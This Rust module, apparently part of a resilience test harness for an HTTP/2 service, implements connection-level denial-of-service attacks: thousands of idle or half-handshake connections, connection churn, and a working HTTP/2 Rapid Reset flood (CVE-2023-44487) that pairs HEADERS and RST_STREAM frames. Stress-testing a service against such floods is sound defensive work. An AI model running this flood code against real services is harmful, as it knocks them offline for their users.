//! Attacks below the calls: connections that do nothing, and frames that cost the sender nothing.

use std::{sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::sleep,
};

use super::{attack::Attack, connection::connect, samples::all_paths};
use crate::support::frames::{END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame, headers};

const CONNECTIONS: usize = 2_000;
/// The pause before a connection that was closed is opened again.
const PAUSE: Duration = Duration::from_millis(50);
/// Resets that are written at a time.
const RESETS: usize = 100;

/// Keeps this number of connections. Each sends `bytes` and reads until its end, and is then opened again.
fn keep(attack: &Attack, connections: usize, bytes: Vec<u8>) {
    let bytes = Arc::new(bytes);
    for _ in 0..connections {
        let (attacker, bytes) = (attack.clone(), Arc::clone(&bytes));
        attack.spawn(async move {
            loop {
                attacker.begin();
                let outcome = match connect(attacker.target.address, attacker.source).await {
                    Ok(stream) => until_closed(stream, &bytes).await,
                    Err(_) => "no connection",
                };
                attacker.end_with(outcome);
                sleep(PAUSE).await;
            }
        });
    }
}

async fn until_closed(mut stream: TcpStream, bytes: &[u8]) -> &'static str {
    let mut received = [0; 1_024];
    if stream.write_all(bytes).await.is_ok() {
        while stream.read(&mut received).await.is_ok_and(|count| count > 0) {}
    }
    "closed"
}

/// The preface and SETTINGS of every client.
fn greeting() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

pub fn idle(attack: &Attack) {
    keep(attack, CONNECTIONS, greeting());
}

/// Connections that send a part of the preface.
pub fn unfinished_handshakes(attack: &Attack) {
    keep(attack, CONNECTIONS, PREFACE[..PREFACE.len() - 1].to_vec());
}

/// Connections that are closed once the service has answered.
pub fn opened_and_closed(attack: &Attack) {
    for _ in 0..64 {
        let attacker = attack.clone();
        attack.spawn(async move {
            loop {
                attacker.begin();
                let outcome = match connect(attacker.target.address, attacker.source).await {
                    Ok(mut stream) => {
                        let _ = stream.write_all(&greeting()).await;
                        let _ = stream.read(&mut [0; 64]).await;
                        "closed"
                    }
                    Err(_) => {
                        sleep(PAUSE).await;
                        "no connection"
                    }
                };
                attacker.end_with(outcome);
            }
        });
    }
}

/// Calls to every method that are reset at once: CVE-2023-44487. The service closes such a connection, and the next one
/// is opened.
pub fn rapid_resets(attack: &Attack) {
    let paths = Arc::new(all_paths());
    for _ in 0..8 {
        let (attacker, paths) = (attack.clone(), Arc::clone(&paths));
        attack.spawn(async move {
            loop {
                attacker.begin();
                let outcome = match connect(attacker.target.address, attacker.source).await {
                    Ok(stream) => reset_until_closed(stream, &attacker.target.token, &paths).await,
                    Err(_) => "no connection",
                };
                attacker.end_with(outcome);
                sleep(PAUSE).await;
            }
        });
    }
}

async fn reset_until_closed(stream: TcpStream, token: &str, paths: &[String]) -> &'static str {
    let (mut reader, mut writer) = stream.into_split();
    let token = format!("Bearer {token}");
    let write = async {
        let mut bytes = greeting();
        let mut stream = 1;
        while writer.write_all(&bytes).await.is_ok() {
            bytes.clear();
            for _ in 0..RESETS {
                let path = &paths[stream as usize / 2 % paths.len()];
                let block = headers(path, &[("authorization", &token)]);
                bytes.extend(frame(HEADERS, END_HEADERS, stream, &block));
                bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                stream += 2;
            }
        }
    };
    let read = async {
        let mut received = [0; 4_096];
        while reader.read(&mut received).await.is_ok_and(|count| count > 0) {}
    };
    // A connection that is closed is not written to any more.
    tokio::select! {
        () = write => {}
        () = read => {}
    }
    "closed"
}
